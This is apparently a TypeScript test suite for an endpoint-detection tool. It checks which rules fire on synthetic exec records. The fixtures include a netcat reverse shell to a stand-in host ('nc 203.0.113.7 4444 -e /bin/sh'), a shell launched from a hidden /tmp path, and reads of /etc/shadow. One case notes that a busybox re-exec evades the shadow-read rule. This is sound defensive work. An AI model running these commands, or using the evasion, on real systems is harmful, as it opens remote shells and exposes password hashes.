// vigil.ko's EXEC records through the real code of every stage, without the
// network: the agent's driver record handling (decode, map, process table),
// the server's normalization to ECS, the ECS document, and the hub's default
// ruleset. Two things rules see on an exec: the file that runs (exe_path,
// symlinks resolved) next to the path execve was given, and what stdin /
// stdout are. The socket-stdio rule fires on a shell wired to a connection and
// stays quiet on SSH-like sessions, listening sockets and non-shells.

import { join } from "node:path";
import {
  VIGIL_EXEC,
  VIGIL_FD_CHAR,
  VIGIL_FD_PIPE,
  VIGIL_FD_SOCKET,
  VIGIL_FD_TTY,
  VIGIL_FORK,
} from "../../agent/src/collectors/driver/event-table.gen";
import type { EncodeHeader, EncodeValue } from "../../agent/src/collectors/driver/record-encoder";
import { loadRuleSources } from "../../hub/src/correlation/load-rule-sources";
import { Ruleset } from "../../hub/src/sigma/ruleset";
import type { EcsDocument } from "../../hub/src/sigma/types";
import { driverRecordsToEcs } from "../harness/driver-records-to-ecs";

const SOCKET_STDIO_RULE = "e35ed378-3f15-4efb-838f-15addbe362df";
const NETCAT_RULE = "5d86b4f3-fb8a-44b7-9ea4-10a1991f1802";
const SHADOW_READ_RULE = "e9b74bd0-624f-4109-938c-d9fec9de55e5";
const EXEC_FROM_TEMP_RULE = "ba634af6-1842-45ac-9a03-1e30c4a743c9";
// As the hub loads it: base rules and the correlations over them.
const loaded = loadRuleSources(join(__dirname, "../../rules"));
const ruleset = new Ruleset(loaded.rules);

type Rec = [number, Record<string, EncodeValue>, EncodeHeader];

/** Records through agent → server → ECS, in order. */
const documents = (records: Rec[]): EcsDocument[] => driverRecordsToEcs(records);

const fired = (doc: EcsDocument | undefined) =>
  doc === undefined
    ? []
    : ruleset
        .match(doc)
        .map((r) => r.id)
        .sort();
const task = (pid: number, ppid: number, comm: string): EncodeHeader => ({ pid, tgid: pid, ppid, comm });
const attacker = { family: 2, port: 4444, addr: [203, 0, 113, 7] };
const host = { family: 2, port: 51234, addr: [10, 0, 3, 15] };
const onSocket = (remote = attacker) => ({
  stdin_kind: VIGIL_FD_SOCKET,
  stdin_local: host,
  stdin_remote: remote,
  stdout_kind: VIGIL_FD_SOCKET,
  stdout_local: host,
  stdout_remote: remote,
  stderr_kind: VIGIL_FD_CHAR,
});

describe("driver EXEC records → agent → server → default ruleset", () => {
  test("the ruleset loads", () => {
    expect(loaded.errors).toEqual([]);
  });

  test("nc -e /bin/sh on a busybox host: netcat rule on nc, socket-stdio rule on the sh, by their resolved and asked-for paths", () => {
    const docs = documents([
      [
        VIGIL_EXEC,
        {
          filename: "/bin/nc",
          exe_path: "/bin/busybox",
          argv: ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"],
        },
        task(500, 1, "nc"),
      ],
      [
        VIGIL_EXEC,
        { filename: "/bin/sh", exe_path: "/bin/busybox", argv: ["/bin/sh"], ...onSocket() },
        task(500, 1, "sh"),
      ],
    ]);
    expect(docs[0]?.process).toMatchObject({ executable: "/bin/busybox", exec_filename: "/bin/nc" });
    expect(fired(docs[0])).toEqual([NETCAT_RULE]);
    expect(docs[1]?.process).toMatchObject({ executable: "/bin/busybox", exec_filename: "/bin/sh" });
    expect(docs[1]?.vigil).toEqual({
      stdin_type: "socket",
      stdin_local_ip: "10.0.3.15",
      stdin_local_port: "51234",
      stdin_remote_ip: "203.0.113.7",
      stdin_remote_port: "4444",
      stdout_type: "socket",
      stdout_local_ip: "10.0.3.15",
      stdout_local_port: "51234",
      stdout_remote_ip: "203.0.113.7",
      stdout_remote_port: "4444",
      stderr_type: "char",
    });
    expect(fired(docs[1])).toEqual([SOCKET_STDIO_RULE]);
  });

  test("a shell reached through a symlink in /tmp or /proc/self/fd is caught by what it is, loopback peers too", () => {
    const docs = documents([
      [
        VIGIL_EXEC,
        { filename: "/tmp/.x/update", exe_path: "/usr/bin/bash", argv: ["update"], ...onSocket() },
        task(510, 1, "update"),
      ],
      [
        VIGIL_EXEC,
        {
          filename: "/proc/self/fd/5",
          exe_path: "/usr/bin/dash",
          argv: ["x"],
          ...onSocket({ family: 2, port: 39810, addr: [127, 0, 0, 1] }),
        },
        task(511, 1, "5"),
      ],
    ]);
    expect(docs.map((doc) => doc.process)).toMatchObject([
      { executable: "/usr/bin/bash", exec_filename: "/tmp/.x/update" },
      { executable: "/usr/bin/dash", exec_filename: "/proc/self/fd/5" },
    ]);
    // The name it was run by is in /tmp: the temp-dir rule still sees it (Image reads both paths).
    expect(fired(docs[0])).toEqual([EXEC_FROM_TEMP_RULE, SOCKET_STDIO_RULE].sort());
    expect(fired(docs[1])).toEqual([SOCKET_STDIO_RULE]);
  });

  test("a pty session, a UNIX socketpair, a listening socket and a non-shell on a connection fire nothing", () => {
    const docs = documents([
      [
        VIGIL_EXEC,
        {
          filename: "/bin/bash",
          exe_path: "/usr/bin/bash",
          argv: ["-bash"],
          stdin_kind: VIGIL_FD_TTY,
          stdout_kind: VIGIL_FD_TTY,
        },
        task(520, 1, "bash"),
      ],
      [
        VIGIL_EXEC,
        {
          filename: "/bin/bash",
          exe_path: "/usr/bin/bash",
          argv: ["bash", "-c", "uptime"],
          stdin_kind: VIGIL_FD_SOCKET,
          stdout_kind: VIGIL_FD_SOCKET,
          stderr_kind: VIGIL_FD_PIPE,
        },
        task(521, 1, "bash"),
      ],
      [
        VIGIL_EXEC,
        {
          filename: "/usr/bin/php-cgi",
          exe_path: "/usr/bin/php-cgi8.2",
          argv: ["/usr/bin/php-cgi"],
          stdin_kind: VIGIL_FD_SOCKET,
          stdin_local: { family: 2, port: 9000, addr: [127, 0, 0, 1] },
          stdin_remote: { family: 2, port: 0, addr: [0, 0, 0, 0] },
        },
        task(522, 1, "php-cgi"),
      ],
      [
        VIGIL_EXEC,
        {
          filename: "/usr/bin/git",
          exe_path: "/usr/bin/git",
          argv: ["git", "daemon", "--inetd"],
          ...onSocket(),
        },
        task(523, 1, "git"),
      ],
    ]);
    expect(docs[1]?.vigil).toEqual({ stdin_type: "socket", stdout_type: "socket", stderr_type: "pipe" });
    expect(docs[2]?.vigil).toMatchObject({
      stdin_type: "socket",
      stdin_local_ip: "127.0.0.1",
      stdin_local_port: "9000",
    });
    expect(docs[2]?.vigil).not.toHaveProperty("stdin_remote_ip");
    expect(docs[3]?.process).not.toHaveProperty("exec_filename");
    for (const doc of docs) expect(fired(doc)).toEqual([]);
  });

  test("children see their parent's two paths: a busybox cat run by a shell still reads as cat", () => {
    const docs = documents([
      [
        VIGIL_EXEC,
        { filename: "/bin/sh", exe_path: "/bin/busybox", argv: ["sh", "-c", "x"] },
        task(530, 1, "sh"),
      ],
      [VIGIL_FORK, { child_pid: 531, child_tgid: 531, is_thread: 0 }, task(530, 1, "sh")],
      [
        VIGIL_EXEC,
        { filename: "/proc/self/exe", exe_path: "/bin/busybox", argv: ["cat", "/etc/shadow"] },
        task(531, 530, "exe"),
      ],
    ]);
    expect(docs[2]?.process).toMatchObject({
      executable: "/bin/busybox",
      exec_filename: "/proc/self/exe",
      parent: { pid: 530, executable: "/bin/busybox", exec_filename: "/bin/sh" },
    });
    // Neither path ends in /cat: busybox's /proc/self/exe re-exec hides the applet from Image (argv[0] only).
    expect(fired(docs[2])).toEqual([]);
    const direct = documents([
      [
        VIGIL_EXEC,
        { filename: "/bin/cat", exe_path: "/bin/busybox", argv: ["cat", "/etc/shadow"] },
        task(540, 1, "cat"),
      ],
    ]);
    expect(fired(direct[0])).toEqual([SHADOW_READ_RULE]);
  });
});
